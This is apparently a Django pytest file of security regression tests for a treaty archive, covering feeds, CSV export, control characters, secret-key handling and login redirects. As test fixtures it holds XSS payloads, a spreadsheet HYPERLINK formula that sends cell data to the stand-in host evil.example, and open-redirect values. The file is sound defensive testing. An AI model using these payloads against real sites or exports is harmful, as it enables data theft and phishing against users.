"""Hostile input, round 2: what a red-team run found, each case with its exact answer.

Stored markup in feeds, formula injection in CSV, NUL and control characters in paths and
parameters, the development key, the browsable API under a strict CSP, originals of
unpublished sources, the default hosts, an unsafe ``next`` on login.
"""

from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
import sys
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import feedparser
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone

from archive.models import Agreement, Party, SourceDocument

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script>"
IMG = '<img src=x onerror="alert(2)">'
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ROOT = Path(__file__).resolve().parents[1]


@pytest.fixture
def hostile_agreement() -> Agreement:
    agreement = Agreement.objects.create(
        slug="kz-uz-2001-01-01-hostile",
        title=f"{SCRIPT} Agreement",
        title_en=FORMULA,
        signed_place=IMG,
        signed_date="2001-01-01",
        published_at=timezone.now(),
    )
    Party.objects.create(agreement=agreement, country_id="KZ", order=0)
    Party.objects.create(agreement=agreement, country_id="UZ", order=1)
    agreement.refresh_pair()
    return agreement


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.append(tag)


@pytest.mark.parametrize("url", ["/feeds/new/", "/feeds/search/?pair=KZ-UZ", "/countries/KZ/feed/"])
def test_feed_summaries_carry_stored_markup_as_text(client, hostile_agreement, url):
    body = client.get(url).content
    ET.fromstring(body)  # well-formed XML
    feed = feedparser.parse(body)
    [entry] = [e for e in feed.entries if hostile_agreement.slug in e.link]
    # a feed reader renders the summary as HTML: it must hold no element, only the text
    tags = _Tags()
    tags.feed(entry.summary)
    assert tags.tags == []
    assert "alert(1)" in entry.summary and "&lt;script&gt;" in entry.summary
    assert "&lt;img" in entry.summary
    assert entry.title == str(hostile_agreement)  # titles are text (type="text")


def test_csv_cells_that_look_like_formulas_are_neutralised(client, hostile_agreement):
    body = client.get("/agreements/export.csv", {"pair": "KZ-UZ"}).content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body)))
    [row] = [r for r in rows if r["slug"] == hostile_agreement.slug]
    assert row["title_en"] == "'" + FORMULA
    assert row["signed_date"] == "2001-01-01"  # ordinary values untouched
    assert not any(value.startswith(("=", "+", "-", "@")) for r in rows for value in r.values())


@pytest.mark.parametrize(
    "url",
    [
        "/api/topics/%00/",
        "/api/topics/a%00b/",
        "/api/countries/K%00/",
        "/api/agreements/a%00b/",
        "/api/pairs/?country=%00",
        "/agreements/a%00b/",
        "/countries/K%00/",
        "/search/?q=%00",
        "/agreements/?party=%01",
    ],
)
def test_nul_and_control_characters_are_refused_with_400(client, url):
    response = client.get(url)
    assert response.status_code == 400
    assert "control characters" in response.content.decode()


@pytest.mark.parametrize("code", [*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20)])
def test_the_search_feed_refuses_every_control_character(client, code):
    response = client.get(f"/feeds/search/?q=a%{code:02X}b")
    assert response.status_code == 400


@pytest.mark.parametrize("q", ["%EF%BF%BE", "%EF%BF%BF", "a%ED%A0%80b"])
def test_characters_xml_cannot_carry_never_reach_a_feed(client, q):
    response = client.get(f"/feeds/search/?q={q}")
    if q.startswith("%EF"):
        assert response.status_code == 400  # U+FFFE / U+FFFF
    else:  # a lone surrogate, percent-encoded: decoded as U+FFFD, a valid character
        assert response.status_code == 200
        ET.fromstring(response.content)


def test_tab_and_newline_in_a_search_are_ordinary_whitespace(client):
    response = client.get("/feeds/search/?q=military%09intelligence%0A")
    assert response.status_code == 200
    ET.fromstring(response.content)


def _settings_value(name: str, env: dict[str, str]) -> subprocess.CompletedProcess:
    code = f"import django, os; os.environ['DJANGO_SETTINGS_MODULE']='archive.settings'; django.setup(); from django.conf import settings; print(settings.{name})"  # noqa: E501
    base = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": os.environ.get("HOME", "/tmp")}
    return subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, env={**base, **env}, cwd=ROOT, timeout=120
    )


@pytest.mark.slow  # starts a Python process
def test_without_a_key_each_installation_makes_and_keeps_its_own(tmp_path):
    first = _settings_value("SECRET_KEY", {"ARCHIVE_VAR_DIR": str(tmp_path)})
    second = _settings_value("SECRET_KEY", {"ARCHIVE_VAR_DIR": str(tmp_path)})
    other = _settings_value("SECRET_KEY", {"ARCHIVE_VAR_DIR": str(tmp_path / "other")})
    key = first.stdout.strip()
    assert first.returncode == 0, first.stderr
    assert len(key) >= 50 and key == second.stdout.strip() != other.stdout.strip()
    assert key != "dev-only-insecure-key"
    assert stat.S_IMODE((tmp_path / "secret_key").stat().st_mode) == 0o600
    # with DEBUG on too: never the published development key
    debug = _settings_value("SECRET_KEY", {"ARCHIVE_VAR_DIR": str(tmp_path), "DEBUG": "true"})
    assert debug.stdout.strip() == key


@pytest.mark.slow  # starts a Python process
def test_production_without_a_key_refuses_to_start(tmp_path):
    result = _settings_value("SECRET_KEY", {"ARCHIVE_VAR_DIR": str(tmp_path), "PRODUCTION": "true"})
    assert result.returncode != 0 and "SECRET_KEY" in result.stderr
    assert not (tmp_path / "secret_key").exists()


def test_no_configuration_holds_a_published_key():
    for path in [*ROOT.joinpath("archive").rglob("*.py"), ROOT / "docker-compose.yml", ROOT / "Makefile"]:
        text = path.read_text(encoding="utf-8")
        assert "dev-only-insecure-key" not in text and "change-me-in-production" not in text, path
    compose = (ROOT / "docker-compose.yml").read_text(encoding="utf-8")
    assert "${SECRET_KEY:?" in compose


@pytest.mark.slow  # starts a Python process
def test_default_hosts_do_not_include_testserver(tmp_path):
    result = _settings_value("ALLOWED_HOSTS", {"ARCHIVE_VAR_DIR": str(tmp_path)})
    assert "testserver" not in result.stdout and "127.0.0.1" in result.stdout


def test_the_api_answers_json_to_a_browser(client, seed):
    for url in ("/api/", "/api/agreements/", f"/api/agreements/{seed['intelligence_2024'].slug}/"):
        response = client.get(url, HTTP_ACCEPT="text/html,application/xhtml+xml,*/*;q=0.8")
        assert response.status_code == 200
        assert response["Content-Type"].startswith("application/json"), url


def test_originals_of_unpublished_sources_are_for_editors_only(client, django_user_model):
    editor = Client()
    editor.force_login(django_user_model.objects.create_superuser("ed", "ed@example.org", "pw-ed-12345"))
    response = editor.post(
        "/admin/archive/sourcedocument/upload/", {"files": [SimpleUploadedFile("broken.pdf", b"not a pdf at all")]}
    )
    editor.post(response["Location"], {"action": "confirm"})
    failed = SourceDocument.objects.get(filename="broken.pdf")
    assert failed.status == "failed"
    assert client.get(failed.get_absolute_url()).status_code == 404
    assert editor.get(failed.get_absolute_url()).status_code == 200


def test_an_unsafe_next_on_login_lands_in_the_admin(client, django_user_model):
    django_user_model.objects.create_superuser("nx", "nx@example.org", "pw-nx-12345")
    response = client.post(
        "/admin/login/?next=https://evil.example/", {"username": "nx", "password": "pw-nx-12345"}, follow=False
    )
    assert response.status_code == 302
    assert response["Location"] == "/admin/"
    response = client.post("/accounts/login/?next=//evil.example/", {}, follow=False)
    assert response.status_code == 404  # there is no second login page to abuse
